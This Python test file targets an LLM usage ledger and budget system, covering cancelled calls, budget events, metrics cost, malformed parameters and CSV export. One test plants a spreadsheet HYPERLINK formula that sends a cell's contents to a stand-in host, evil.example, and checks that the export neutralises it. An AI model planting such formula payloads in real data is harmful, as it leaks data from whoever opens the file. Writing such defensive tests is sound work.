"""Attacks on the usage ledger and budgets, on a real PostgreSQL with providers faked at the
wire (real OpenAI payloads): a reply without `usage`, a model call cancelled mid-way (a turn,
a pipeline run), the turn's connection killed during the call, absurd reported usage, formula
cells in the CSV export, budget events driven by estimates, a reservation's cost as the
ledger grows, `/metrics` under a burst of scrapes and past its series cap, the recall
embedding's attribution, malformed `GET /usage` parameters and two processes on one budget
(the last two held: kept as regression tests). Each test states a promise."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from typing import Any

import pytest
from task_api import (
    login,
    make_agent,
    multi_fixture,  # noqa: F401 - the fixture "multi"
    stub_fixture,  # noqa: F401 - the fixture "stub"
)

from gathering.agents import Agent, PostgresAgentStore
from gathering.db import Database
from gathering.usage import BudgetSpec, set_budget


def openai_reply(text: str, prompt_tokens: int, completion_tokens: int, model: str = "gpt-4o"):
    return {
        "id": "chatcmpl-review",
        "object": "chat.completion",
        "created": int(time.time()),
        "model": model,
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": text},
                "finish_reason": "stop",
                "logprobs": None,
            }
        ],
        "usage": {
            "prompt_tokens": prompt_tokens,
            "completion_tokens": completion_tokens,
            "total_tokens": prompt_tokens + completion_tokens,
        },
    }


async def _agent(db: Database, name: str, max_tokens: int = 1000) -> Agent:
    agent = Agent(
        name,
        provider="openai",
        model="gpt-4o",
        store=PostgresAgentStore(db),
        options={"max_tokens": max_tokens},
    )
    await agent.ensure_saved()
    return agent


# --- 1. a model call cut mid-way (shutdown, a dropped caller) ---------------------------------


async def test_a_cancelled_model_call_still_writes_its_ledger_row(db, llm_stub_env) -> None:
    """The provider received (and bills) the request; the turn is cancelled while it answers
    (the turn loop's own comment: 'A cancelled turn (shutdown, a dropped caller)'). The
    background-task loop writes an outcome='cancelled' row for exactly this case; the turn
    loop writes none, and its reservation keeps holding the budget."""
    agent = await _agent(db, "Cut")
    assert agent.id is not None
    await set_budget(db, BudgetSpec("agent", agent.id, "day", limit_usd=1.0), actor_id=None)
    llm_stub_env.reset()
    llm_stub_env.add_json(openai_reply("late", 100, 900), delay=3.0)
    before = len(llm_stub_env.requests)
    turn = asyncio.create_task(agent.run("spend"))
    deadline = time.monotonic() + 10
    while len(llm_stub_env.requests) == before:  # the provider has the request
        assert time.monotonic() < deadline
        await asyncio.sleep(0.05)
    await asyncio.sleep(0.3)
    turn.cancel()
    with pytest.raises(asyncio.CancelledError):
        await turn
    await asyncio.sleep(0.5)
    rows = await db.fetch_all("SELECT outcome FROM usage.ledger WHERE kind = 'model'")
    held = await db.fetch_val("SELECT count(*) FROM usage.reservations WHERE expires_at > now()")
    assert (len(rows), held) == (1, 0), (
        f"model call made, ledger rows: {rows}, live reservations still held: {held}"
    )
    assert rows[0]["outcome"] == "cancelled"


# --- 2. budget.warning / budget.exceeded on estimates, not on spending --------------------


async def test_warning_is_not_sent_at_a_tenth_of_the_budget(db, llm_stub_env) -> None:
    """A 10 000-token day budget, warn at 80 %. One call spends 1 000 tokens (10 %). The
    warning is computed from the *reservation* (estimate + max_tokens 8 000), so it fires
    now; and it is sent only once per period, so nothing is sent when 80 % is really
    reached."""
    agent = await _agent(db, "Warned", max_tokens=8000)
    assert agent.id is not None
    await set_budget(db, BudgetSpec("agent", agent.id, "day", limit_tokens=10_000), actor_id=None)
    llm_stub_env.add_json(openai_reply("ok", 100, 900))
    await agent.run("one")
    spent = await db.fetch_val("SELECT sum(input_tokens + output_tokens) FROM usage.ledger")
    sent = await db.fetch_all(
        "SELECT type, data FROM events.outbox WHERE type LIKE 'budget.%' ORDER BY cursor"
    )
    assert spent == 1000
    assert sent == [], f"at {spent / 100:.0f} % of the budget spent, sent: {sent}"


async def test_exceeded_is_not_sent_for_a_budget_with_nothing_spent(db, llm_stub_env) -> None:
    """A call whose estimate alone is over the limit is refused (fine); that refusal is a
    `budget.refused` event, not the period's one `budget.exceeded` while 0 is spent."""
    agent = await _agent(db, "Big", max_tokens=20_000)
    assert agent.id is not None
    await set_budget(db, BudgetSpec("agent", agent.id, "day", limit_tokens=10_000), actor_id=None)
    with pytest.raises(Exception):
        await agent.run("one")
    spent = await db.fetch_val(
        "SELECT coalesce(sum(input_tokens + output_tokens), 0) FROM usage.ledger"
    )
    sent = [
        r["type"]
        for r in await db.fetch_all(
            "SELECT type FROM events.outbox WHERE type LIKE 'budget.%' ORDER BY cursor"
        )
    ]
    assert spent == 0
    assert sent == ["budget.refused"], f"sent {sent} with {spent} tokens spent"


# --- 3. CSV injection ---------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


async def test_csv_export_neutralises_formula_cells(multi) -> None:
    """A member names their agent's model with a formula; the admin's export of everyone's
    usage by model carries it as a live spreadsheet formula."""
    app, client = multi
    mallory = await login(app, client)
    agent = await make_agent(client, "Mal", headers=mallory, provider=("openai", FORMULA))
    answer = await client.post(f"/agents/{agent}/chat", json={"message": "hi"}, headers=mallory)
    assert answer.status_code in (200, 402, 404, 422, 502, 503), answer.text
    admin = await login(app, client, "admin")
    exported = await client.get("/usage", params={"format": "csv", "by": "model"}, headers=admin)
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], f"formula cells in the admin's CSV: {dangerous}"


# --- 4. malformed or huge parameters --------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"from": "0001-01-01T00:00:00+14:00"},
        {"to": "9999-12-31T23:59:59-14:00"},
        {"from": "0001-01-01T00:00:00Z", "to": "9999-12-31T23:59:59Z", "period": "week"},
        {"from": "2026-01-01T00:00:00Z", "to": "2025-01-01T00:00:00Z"},
        {"limit": "0"},
        {"limit": "99999999999999999999"},
        {"user": "-1"},
        {"agent": "1e3"},
        {"model": "a" * 201},
        {"from": "yesterday"},
    ],
)
async def test_malformed_usage_params_are_not_a_500(multi, params: dict[str, Any]) -> None:
    app, client = multi
    member = await login(app, client)
    answer = await client.get("/usage", params=params, headers=member)
    assert answer.status_code in (200, 422), (answer.status_code, answer.text[:300])


# --- 5. /metrics: cost per scrape -----------------------------------------------------------


async def test_concurrent_scrapes_share_one_ledger_read(db, monkeypatch) -> None:
    """The 5 s cache is only stamped after the query returns: N scrapes that arrive while it
    is stale (e.g. GATHERING_METRICS_ACCESS=public and a burst of requests) must share one
    read, not each fold and sum the ledger."""
    from gathering.usage import spending_metrics

    reads = 0
    real = spending_metrics.read_spending

    async def counting(q: Database) -> list[dict[str, Any]]:
        nonlocal reads
        reads += 1
        await asyncio.sleep(0.2)  # a ledger of some size
        return await real(q)

    monkeypatch.setattr(spending_metrics, "read_spending", counting)
    totals = spending_metrics.SpendingTotals()
    await asyncio.gather(*(totals.read(db) for _ in range(50)))
    assert reads == 1, f"50 concurrent scrapes ran {reads} full ledger scans"


async def test_a_scrape_does_not_read_the_whole_ledger(db) -> None:
    """Bounded cost per scrape: once the rows written so far are folded into the rollup (a
    backlog over a few scrapes), a scrape reads the rollup and the rows written since, not
    every ledger row, and its sums still match the ledger."""
    from gathering.usage.spending_metrics import _SQL, MAX_SERIES, read_spending

    await db.execute(
        "INSERT INTO usage.ledger (kind, user_id, provider, model, input_tokens, output_tokens,"
        " cost_usd) SELECT 'model', g % 50, 'openai', 'gpt-4o', 10, 10, 0.0001"
        " FROM generate_series(1, 200000) g"
    )
    for _ in range(3):  # the scrapes that fold the backlog
        totals = await read_spending(db)
        assert [(r["calls"], r["input_tokens"]) for r in totals] == [(200_000, 2_000_000)]
    await db.execute("ANALYZE usage.ledger")
    async with db.transaction() as tx:  # no parallel workers: one node counts every row
        await tx.execute("SET LOCAL max_parallel_workers_per_gather = 0")
        plan = await tx.fetch_all(
            "EXPLAIN (ANALYZE, FORMAT JSON) "
            + _SQL["spending_totals"].replace("$1", str(MAX_SERIES))
        )
    text = str(plan)
    import re

    scanned = max(int(n) for n in re.findall(r"'Actual Rows': (\d+)", text))
    took = re.findall(r"'Execution Time': ([0-9.]+)", text)
    assert scanned < 10_000, (
        f"one scrape read {scanned} ledger rows in {took} ms (Seq Scan: {'Seq Scan' in text})"
    )


async def test_folds_of_two_instances_beside_writers_count_every_row_once(db) -> None:
    """Two instances scrape (and fold) at once while writers add rows, some in transactions
    still open during a fold: the exported sums always equal the ledger's at that moment's
    committed rows, and at the end exactly."""
    from gathering.usage.spending_metrics import read_spending

    insert = (
        "INSERT INTO usage.ledger (kind, provider, model, input_tokens, output_tokens, cost_usd)"
        " SELECT 'model', 'p', 'm' || (g % 3), 1, 2, 0.5 FROM generate_series(1, $1) g"
    )

    async def write(rounds: int) -> None:
        for n in range(rounds):
            async with db.transaction() as tx:
                await tx.execute(insert, 200)
                await asyncio.sleep(0.01 * (n % 3))  # open while a fold runs

    async def scrape(other: Database, rounds: int) -> None:
        for _ in range(rounds):
            totals = await read_spending(other)
            assert sum(r["calls"] for r in totals) % 200 == 0, totals  # whole transactions
            await asyncio.sleep(0.005)

    async with (
        Database(url=db.url, min_size=0, max_size=3) as one,
        Database(url=db.url, min_size=0, max_size=3) as two,
    ):
        await asyncio.gather(write(40), write(40), scrape(one, 60), scrape(two, 60))
        final = await read_spending(two)
    ledger = await db.fetch_one(
        "SELECT count(*) AS calls, sum(output_tokens) AS output, sum(cost_usd) AS cost"
        " FROM usage.ledger"
    )
    assert ledger is not None and ledger["calls"] == 16_000
    assert sum(r["calls"] for r in final) == 16_000
    assert sum(r["output_tokens"] for r in final) == ledger["output"]
    assert sum(r["cost_usd"] for r in final) == pytest.approx(ledger["cost"])
    rollup = await db.fetch_val("SELECT sum(calls) FROM usage.spending_rollup")
    queued = await db.fetch_val("SELECT count(*) FROM usage.spending_queue")
    assert rollup + queued == 16_000


async def test_each_exported_spending_series_only_grows(db, monkeypatch) -> None:
    """Prometheus reads a series that goes down as a counter reset: a group that grows past
    others never moves out of `other` (which would shrink it), and a fold of a new group
    never takes spending away from a series."""
    from gathering.usage import spending_metrics

    monkeypatch.setattr(spending_metrics, "MAX_SERIES", 2)

    async def spend(model: str, cost: float, rows: int = 1) -> None:
        await db.execute(
            "INSERT INTO usage.ledger (kind, provider, model, cost_usd)"
            " SELECT 'model', 'p', $1, $2 FROM generate_series(1, $3)",
            model,
            cost,
            rows,
        )

    seen: dict[tuple[str, str, str], float] = {}

    async def scrape() -> dict[tuple[str, str, str], float]:
        rows = await spending_metrics.read_spending(db)
        now = {(r["kind"], r["provider"], r["model"]): r["cost_usd"] for r in rows}
        for series, cost in seen.items():
            assert now.get(series, 0.0) >= cost - 1e-9, (series, cost, now)
        seen.update(now)
        return now

    await spend("a", 1.0)
    await spend("b", 1.0)
    await scrape()
    await spend("c", 0.5)
    await spend("d", 0.4)
    assert (await scrape())[("model", "other", "other")] == pytest.approx(0.9)
    await spend("c", 10.0)  # now the costliest of all: it stays in `other`
    await spend("e", 0.1, rows=3)
    after = await scrape()
    assert after[("model", "other", "other")] == pytest.approx(11.2)
    assert sum(after.values()) == pytest.approx(
        await db.fetch_val("SELECT sum(cost_usd) FROM usage.ledger")
    )


async def test_a_read_only_database_still_answers_the_sums(db) -> None:
    """A standby (or a fold that fails) must not take spending out of /metrics: the sums of
    the rollup and the queued rows are read without folding."""
    from gathering.db import Database
    from gathering.usage.spending_metrics import read_spending

    await db.execute(
        "INSERT INTO usage.ledger (kind, provider, model, cost_usd) VALUES ('model', 'p', 'm', 2)"
    )
    await read_spending(db)  # the group is folded once
    await db.execute(
        "INSERT INTO usage.ledger (kind, provider, model, cost_usd) VALUES ('model', 'p', 'm', 3)"
    )
    name = await db.fetch_val("SELECT current_database()")
    await db.execute(f'ALTER DATABASE "{name}" SET default_transaction_read_only = on')
    async with Database(url=db.url, min_size=0, max_size=1) as standby:
        rows = await read_spending(standby)
    assert [(r["model"], r["calls"], r["cost_usd"]) for r in rows] == [("m", 2, 5.0)]


async def test_metrics_do_not_drop_a_models_spending_past_500_groups(multi) -> None:
    """The exposition keeps the first 500 (kind, provider, model) groups as series; the
    spending of every later group must not vanish: it is summed into one `other` series per
    kind, and the exported total matches the ledger."""
    app, client = multi
    db = await app.state.gathering.database()
    await db.execute(
        "INSERT INTO usage.ledger (kind, provider, model, input_tokens, output_tokens, cost_usd)"
        " SELECT 'model', 'openrouter', 'vendor/model-' || g, 1000, 1000, 1.0"
        " FROM generate_series(1, 500) g"
    )
    await db.execute(
        "INSERT INTO usage.ledger (kind, provider, model, input_tokens, output_tokens, cost_usd)"
        " VALUES ('embedding', 'openai', 'text-embedding-3-small', 100000, 0, 0.002)"
    )
    admin = await login(app, client, "admin")
    text = (await client.get("/metrics", headers=admin)).text
    lines = [x for x in text.splitlines() if x.startswith("gathering_llm_cost_usd_total{")]
    total = sum(float(x.rsplit(" ", 1)[1]) for x in lines)
    ledger = await db.fetch_val("SELECT sum(cost_usd) FROM usage.ledger")
    other = [x for x in lines if 'kind="embedding"' in x and 'model="other"' in x]
    assert abs(total - ledger) < 1e-9, f"exported total {total} vs ledger {ledger}"
    assert len(other) == 1 and other[0].endswith(" 0.002"), lines[-3:]


# --- 6. absurd usage from a provider --------------------------------------------------------


async def test_a_call_reporting_over_2_31_tokens_still_has_its_ledger_row(db, llm_stub_env) -> None:
    """A provider (a buggy or hostile OpenAI-compatible server) reports 3e9 input tokens.
    Nothing bounds the reported usage: the message's token column is `integer`, the turn's
    storage fails, and the ledger row, written in the same transaction, is rolled back with
    it: a model call with no ledger row (and a reservation left to expire)."""
    agent = await _agent(db, "Huge")
    assert agent.id is not None
    await set_budget(db, BudgetSpec("agent", agent.id, "day", limit_usd=5.0), actor_id=None)
    llm_stub_env.add_json(openai_reply("ok", 3_000_000_000, 10))
    error = None
    try:
        await agent.run("one")
    except Exception as exc:
        error = f"{type(exc).__name__}: {exc}"[:200]
    rows = await db.fetch_val("SELECT count(*) FROM usage.ledger WHERE kind = 'model'")
    held = await db.fetch_val("SELECT count(*) FROM usage.reservations WHERE expires_at > now()")
    assert (rows, held) == (1, 0), f"turn error: {error}; ledger rows {rows}; held {held}"


# --- 7. a reply without usage settles at 0 ------------------------------------------------


async def test_a_reply_without_usage_is_not_free_against_a_budget(db, llm_stub_env) -> None:
    """An OpenAI-compatible server that sends no `usage` (many proxies and self-hosted servers
    do not, or ignore stream_options) is recorded as 0 tokens and 0 USD, and its reservation
    is given back: a 2 500-token user budget lets any number of 1 000-max_tokens calls
    (each answering ~750 tokens of text) through, one after the other."""
    spenders = [await _agent(db, f"NoUsage{n}") for n in range(6)]
    owner = spenders[0].owner_id
    assert owner is not None
    await set_budget(db, BudgetSpec("user", owner, "day", limit_tokens=2500), actor_id=None)
    made = 0
    for agent in spenders:
        reply = openai_reply("x" * 3000, 0, 0)
        del reply["usage"]
        llm_stub_env.add_json(reply)
        try:
            await agent.run("write a long answer")
            made += 1
        except Exception:
            break
    spent = await db.fetch_val(
        "SELECT coalesce(sum(input_tokens + output_tokens), 0) FROM usage.ledger"
    )
    assert made <= 3, f"{made} calls went through a 2500-token budget; ledger says {spent} tokens"
    flagged = await db.fetch_all("SELECT estimated, output_tokens FROM usage.ledger")
    assert flagged and all(r["estimated"] and r["output_tokens"] >= 700 for r in flagged), flagged


# --- 8. the second refusal in a row ------------------------------------------------------


async def test_every_refusal_is_budget_exceeded(db, llm_stub_env) -> None:
    """Each turn a budget refuses must fail with budget_exceeded (402, and `waiting` for a
    pipeline node), also the second and third in a row."""
    from gathering.errors import BudgetExceededError, GatheringError

    agent = await _agent(db, "Refused")
    assert agent.id is not None
    await set_budget(db, BudgetSpec("agent", agent.id, "day", limit_tokens=500), actor_id=None)
    seen = []
    for n in range(3):
        try:
            await agent.run(f"try {n}")
            seen.append("ok")
        except BudgetExceededError:
            seen.append("budget_exceeded")
        except GatheringError as exc:
            seen.append(f"{type(exc).__name__}:{exc.code}:{exc}"[:150])
    assert seen == ["budget_exceeded"] * 3, seen


# --- 9. embedding rows of a turn's recall --------------------------------------------------


async def test_a_turns_recall_embedding_is_charged_to_the_agent(db, llm_stub_env, settings_env):
    """The turn loop adds the agent to the attribution only for the model call; the recall
    embedding made while building the prompt is written with agent_id NULL: it escapes the
    agent's usage report and its budgets."""
    from gathering.agents.long_term_memory import LongTermMemory, embedder_from_settings

    settings_env(embedding_provider="local")
    agent = await _agent(db, "Recaller")
    assert agent.id is not None
    memory = LongTermMemory(db, agent_id=agent.id, embedder=embedder_from_settings())
    await memory.remember("The user prefers green tea")
    await db.execute("DELETE FROM usage.ledger")
    llm_stub_env.add_json(openai_reply("tea", 100, 10))
    await agent.run("what does the user drink?")
    rows = await db.fetch_all("SELECT kind, agent_id, user_id FROM usage.ledger ORDER BY id")
    embeddings = [r for r in rows if r["kind"] == "embedding"]
    assert embeddings, f"no embedding row at all: {rows}"
    assert all(r["agent_id"] == agent.id for r in embeddings), rows


# --- 10. the turn's connection lost during the call -----------------------------------------


async def test_a_call_answered_after_the_turn_connection_died_still_has_its_row(
    db, llm_stub_env
) -> None:
    """The turn holds its agent lock on one connection, and writes the ledger row on it. When
    that connection dies during the model call (a PostgreSQL restart or failover, a network
    cut; and then another instance may take the agent over), the answered, billed call is
    written nowhere: the row goes down with the message."""
    agent = await _agent(db, "Orphan")
    llm_stub_env.reset()
    llm_stub_env.add_json(openai_reply("late answer", 100, 900), delay=2.0)
    before = len(llm_stub_env.requests)
    turn = asyncio.create_task(agent.run("spend"))
    deadline = time.monotonic() + 10
    while len(llm_stub_env.requests) == before:
        assert time.monotonic() < deadline
        await asyncio.sleep(0.05)
    killed = await db.fetch_val(
        "SELECT count(pg_terminate_backend(pid)) FROM pg_locks"
        " WHERE locktype = 'advisory' AND pid <> pg_backend_pid()"
    )
    assert killed >= 1
    error = None
    try:
        await turn
    except Exception as exc:
        error = f"{type(exc).__name__}: {exc}"[:160]
    rows = await db.fetch_all(
        "SELECT outcome, output_tokens FROM usage.ledger WHERE kind = 'model'"
    )
    assert len(rows) == 1, f"the provider answered (900 output tokens); turn: {error}; rows: {rows}"


# --- 11. several processes against one budget (expected to hold) ---------------------------


async def test_two_processes_of_concurrent_turns_do_not_overshoot(
    migrated_database_url, llm_stub_env
) -> None:
    import os
    import sys
    import textwrap

    async with Database(url=migrated_database_url) as db:
        spenders = [await _agent(db, f"Proc{n}") for n in range(10)]
        owner = spenders[0].owner_id
        await set_budget(db, BudgetSpec("user", owner, "day", limit_usd=0.05), actor_id=None)
    for _ in range(10):
        llm_stub_env.add_json(openai_reply("spent", 100, 900), delay=0.3)
    script = textwrap.dedent(
        """
        import asyncio, sys
        from gathering.agents import Agent, PostgresAgentStore
        from gathering.db import Database
        from gathering.errors import BudgetExceededError
        async def main(url, ids):
            async with Database(url=url) as db:
                store = PostgresAgentStore(db)
                async def one(i):
                    agent = Agent.from_record(await store.load_agent(i), store=store)
                    try:
                        await agent.run("spend")
                        return "ok"
                    except BudgetExceededError:
                        return "refused"
                print("OUT", await asyncio.gather(*(one(int(i)) for i in ids)), flush=True)
        asyncio.run(main(sys.argv[1], sys.argv[2].split(",")))
        """
    )
    ids = [str(a.id) for a in spenders]
    env = dict(os.environ)
    procs = [
        await asyncio.create_subprocess_exec(
            sys.executable,
            "-c",
            script,
            migrated_database_url,
            ",".join(part),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
            env=env,
        )
        for part in (ids[:5], ids[5:])
    ]
    outs = [await p.communicate() for p in procs]
    assert all(p.returncode == 0 for p in procs), [o[1][-800:] for o in outs]
    async with Database(url=migrated_database_url) as db:
        spent = await db.fetch_val("SELECT coalesce(sum(cost_usd), 0) FROM usage.ledger")
        rows = await db.fetch_val("SELECT count(*) FROM usage.ledger")
        held = await db.fetch_val("SELECT count(*) FROM usage.reservations")
    llm_stub_env.reset()  # the replies of refused turns are left over
    print("PROCESSES", [o[0].decode().strip()[-200:] for o in outs], spent, rows, held)
    assert spent <= 0.05 and held == 0 and rows >= 1


# --- 12. a reservation's cost grows with the ledger -----------------------------------------


async def test_a_reservation_does_not_rescan_the_whole_history(db) -> None:
    """A `total` budget (or a busy month) must not re-sum every ledger row of its target on
    each model call, under the budget's row lock (here 400 000 rows of history): the state a
    reservation reads touches a bounded number of rows (EXPLAIN ANALYZE), and it still counts
    that history."""
    import re

    from gathering.usage import Attribution
    from gathering.usage.budgets import _SQL, reserve

    user = 777
    await db.execute(
        "INSERT INTO usage.ledger (kind, user_id, agent_id, provider, model, input_tokens,"
        " output_tokens, cost_usd) SELECT 'model', 777, g % 20, 'openai', 'gpt-4o', 10, 10,"
        " 0.00001 FROM generate_series(1, 400000) g"
    )
    await db.execute("ANALYZE usage.ledger")
    budget = await set_budget(db, BudgetSpec("user", user, "total", limit_usd=1e6), actor_id=None)
    assert budget.spent_tokens == 400000 * 20  # the history counts
    who = Attribution(user_id=user)
    await asyncio.gather(*(reserve(db, who, 0.001, 10, seconds=60) for _ in range(10)))
    async with db.transaction() as tx:  # no parallel workers: one node counts every row
        await tx.execute("SET LOCAL max_parallel_workers_per_gather = 0")
        plan = await tx.fetch_all(
            "EXPLAIN (ANALYZE, FORMAT JSON) "
            + _SQL["budget_states"]
            .replace("$1", f"ARRAY[{budget.id}]")
            .replace("$2", "NULL")
            .replace("$3", "NULL")
        )
    text = str(plan)
    read = max(int(n) for n in re.findall(r"'Actual Rows': (\d+)", text))
    assert read < 100, f"one reservation's state read {read} rows (Seq Scan: {'Seq Scan' in text})"


# --- 13. cancelling a pipeline run while its agent node is calling the model -----------------


async def test_cancelling_a_run_mid_model_call_keeps_the_calls_row(
    migrated_database_url, llm_stub_env
) -> None:
    """POST /pipelines/runs/{id}/cancel cancels the node's task at once: the agent node's
    model call, already sent (and billed by the provider), leaves no ledger row, and its
    reservation holds the pipeline's budget for model_call_timeout + 60 s."""
    from pipeline_runtime import linear, pipeline_runtime

    async with pipeline_runtime(migrated_database_url) as rt:
        store = PostgresAgentStore(rt.db)
        writer = Agent("Writer", provider="openai", model="gpt-4o", store=store)
        writer.owner_id = rt.owner_id
        await writer.save()
        node = {"id": "write", "type": "agent", "config": {"agent": "Writer", "prompt": "hi"}}
        pipeline_id, version = await rt.pipeline(linear(node))
        await set_budget(
            rt.db, BudgetSpec("pipeline", pipeline_id, "month", limit_usd=1.0), actor_id=None
        )
        llm_stub_env.reset()  # no reply left over by another test
        llm_stub_env.add_json(openai_reply("late", 100, 900), delay=3.0)
        before = len(llm_stub_env.requests)
        run = await rt.executor.start_run(pipeline_id, version, rt.owner_id, {})
        deadline = time.monotonic() + 30
        while len(llm_stub_env.requests) == before:
            assert time.monotonic() < deadline
            await asyncio.sleep(0.05)
        await asyncio.sleep(0.3)
        await rt.executor.cancel_run(run.id)
        await rt.wait(run.id, "cancelled", "failed", "succeeded")
        await asyncio.sleep(4)  # the provider's answer has come by now
        rows = await rt.db.fetch_all("SELECT outcome FROM usage.ledger WHERE kind = 'model'")
        held = await rt.db.fetch_val(
            "SELECT count(*) FROM usage.reservations WHERE expires_at > now()"
        )
        assert (len(rows), held) == (1, 0), f"ledger rows {rows}, live reservations {held}"
